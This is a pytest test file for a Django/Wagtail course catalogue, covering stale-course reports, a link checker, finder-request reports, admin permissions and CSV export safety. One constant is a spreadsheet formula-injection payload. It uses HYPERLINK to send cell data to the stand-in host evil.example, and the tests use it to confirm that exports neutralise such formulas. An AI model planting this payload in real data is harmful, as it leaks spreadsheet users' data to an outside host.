import csv
import datetime
import http.server
import io
import threading
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from courses.factories import CourseFactory
from courses.models import Course, CourseLinkCheck, FinderRequest


def listing(client, name, **query):
    response = client.get(reverse(f"courses_reports:{name}"), query)
    assert response.status_code == 200
    return response.content.decode()


@pytest.mark.django_db
def test_stale_report_lists_live_courses_not_reviewed_for_twelve_months(
    admin_client, settings, pinned_clock
):
    today = pinned_clock.date()
    CourseFactory(title="Reviewed recently", last_reviewed=today - datetime.timedelta(days=70))
    CourseFactory(title="Reviewed long ago", last_reviewed=today - datetime.timedelta(days=400))
    CourseFactory(
        title="Retired and old", last_reviewed=today - datetime.timedelta(days=900), live=False
    )
    html = listing(admin_client, "stale")
    assert "Reviewed long ago" in html
    assert "Reviewed recently" not in html and "Retired and old" not in html
    assert "not reviewed for 12 months" in html

    html = listing(admin_client, "stale", months="1")
    assert "Reviewed recently" in html and "Reviewed long ago" in html
    settings.COURSE_STALE_MONTHS = 24
    assert "Reviewed long ago" not in listing(admin_client, "stale")
    assert "Reviewed long ago" not in listing(admin_client, "stale", months="abc")

    export = admin_client.get(reverse("courses_reports:stale"), {"export": "csv", "months": "1"})
    body = b"".join(export.streaming_content).decode()
    assert "Reviewed long ago" in body


class Handler(http.server.BaseHTTPRequestHandler):
    """A tiny stand-in for course providers' sites."""

    def respond(self, method):
        if self.path == "/slow":
            threading.Event().wait(3)
        if self.path == "/no-head" and method == "HEAD":
            self.send_response(405)
        elif self.path == "/gone":
            self.send_response(404)
        elif self.path == "/moved":
            self.send_response(301)
            self.send_header("Location", "/ok")
        else:
            self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_HEAD(self):
        self.respond("HEAD")

    def do_GET(self):
        self.respond("GET")

    def log_message(self, *args):
        pass


@pytest.fixture
def local_server():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.mark.django_db
def test_link_check_stores_the_last_status_per_course(admin_client, local_server, capsys):
    courses = {
        name: CourseFactory(
            title=f"Course {name}", slug=f"course-{name}", url=f"{local_server}/{name}"
        )
        for name in ["ok", "gone", "no-head", "moved"]
    }
    closed = CourseFactory(title="Course closed", url="http://127.0.0.1:9/closed")
    CourseFactory(title="Retired", url=f"{local_server}/gone", live=False)

    call_command("check_course_links", "--workers", "3", "--timeout", "2")
    out = capsys.readouterr().out
    assert "Checked 5 links: 2 broken." in out
    checks = {
        check.course.slug: check for check in CourseLinkCheck.objects.select_related("course")
    }
    assert checks["course-ok"].ok and checks["course-ok"].status_code == 200
    assert checks["course-moved"].ok and checks["course-moved"].status_code == 200
    assert checks["course-no-head"].ok  # HEAD refused, GET answered
    assert not checks["course-gone"].ok and checks["course-gone"].status_code == 404
    assert not checks[closed.slug].ok and checks[closed.slug].status_code is None
    assert "could not connect" in checks[closed.slug].error
    assert "Retired" not in {c.course.title for c in checks.values()}

    # The next run replaces the last result rather than adding another.
    courses["gone"].url = f"{local_server}/ok"
    courses["gone"].save()
    call_command("check_course_links")
    assert CourseLinkCheck.objects.count() == 5
    assert CourseLinkCheck.objects.get(course=courses["gone"]).ok

    html = listing(admin_client, "links", ok="false")
    assert "Course closed" in html and "Course ok" not in html
    assert "Course ok" in listing(admin_client, "links")


@pytest.mark.django_db
def test_link_check_times_out(local_server):
    from courses.linkcheck import check_url

    status, error = check_url(f"{local_server}/slow", timeout=0.5)
    assert status is None and "timed out" in error


@pytest.mark.django_db
def test_finder_requests_report_shows_what_readers_asked(admin_client):
    FinderRequest.objects.create(
        query="best python course", intent={"topics": ["python"], "best": True}, results_count=5
    )
    FinderRequest.objects.create(query="cooking", intent={}, results_count=0, via="json")
    html = listing(admin_client, "finder")
    assert "best python course" in html and "topic: Python; best first" in html
    assert "cooking" in html
    unanswered = listing(admin_client, "finder", unanswered="true")
    assert "cooking" in unanswered and "best python course" not in unanswered


@pytest.mark.django_db
def test_reports_are_in_the_menu_and_need_course_permissions(
    admin_client, client, django_user_model
):
    from django.contrib.auth.models import Permission

    menu = admin_client.get(reverse("wagtailadmin_home")).content.decode()
    for label in [
        "Courses due for review",
        "Courses no guide recommends",
        "Course link check",
        "Course finder requests",
        "Import courses",
    ]:
        assert label in menu
    listing_page = admin_client.get(reverse("wagtailsnippets_courses_course:list")).content
    assert reverse("courses_import") in listing_page.decode()

    user = django_user_model.objects.create_user("nobody", password="pw")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    for name in ["stale", "unrecommended", "links", "finder"]:
        assert client.get(reverse(f"courses_reports:{name}")).status_code in (302, 403)
    assert "Course link check" not in client.get(reverse("wagtailadmin_home")).content.decode()


# --- CSV exports: text a spreadsheet would run as a formula is written as text --------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")'


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.django_db
def test_finder_requests_export_neutralises_a_formula_asked_by_a_reader(admin_client, catalogue):
    assert Client().get(catalogue.url + "finder/", {"q": FORMULA}).status_code == 200
    assert Client().get(catalogue.url + "finder/json/", {"q": "@SUM(1,2)"}).status_code == 200
    rows = csv_rows(admin_client.get(reverse("courses_reports:finder"), {"export": "csv"}))
    assert sorted(row["Query"] for row in rows) == ["'" + FORMULA, "'@SUM(1,2)"]
    assert {row["Results count"] for row in rows} == {"0"}


@pytest.mark.django_db
def test_course_list_export_neutralises_formulas_and_imports_back_unchanged(admin_client):
    from courses.importer import import_courses

    titles = ["=1+2", "@SUM(1,2)", "+44 cheat sheet", "-v flags", "'=already quoted", "Plain"]
    for number, title in enumerate(titles):
        CourseFactory(slug=f"course-{number}", title=title, rating=Decimal("9.5"))
    export = admin_client.get(reverse("wagtailsnippets_courses_course:list"), {"export": "csv"})
    body = b"".join(export.streaming_content)
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert sorted(row["title"] for row in rows) == sorted(
        ["'=1+2", "'@SUM(1,2)", "'+44 cheat sheet", "'-v flags", "''=already quoted", "Plain"]
    )
    assert {row["rating"] for row in rows} == {"9.5"}  # a number is written as a number

    # The import takes the protective quote off again: the same file changes nothing.
    report = import_courses(body, dry_run=True)
    assert report.ok
    assert {(r.action, tuple(r.changes)) for r in report.rows} == {("unchanged", ())}
    edited = body.decode().replace("'-v flags", "'-v and -vv flags").encode()
    assert import_courses(edited).count("update") == 1
    assert sorted(Course.objects.values_list("title", flat=True)) == sorted(
        titles[:3] + ["-v and -vv flags"] + titles[4:]
    )
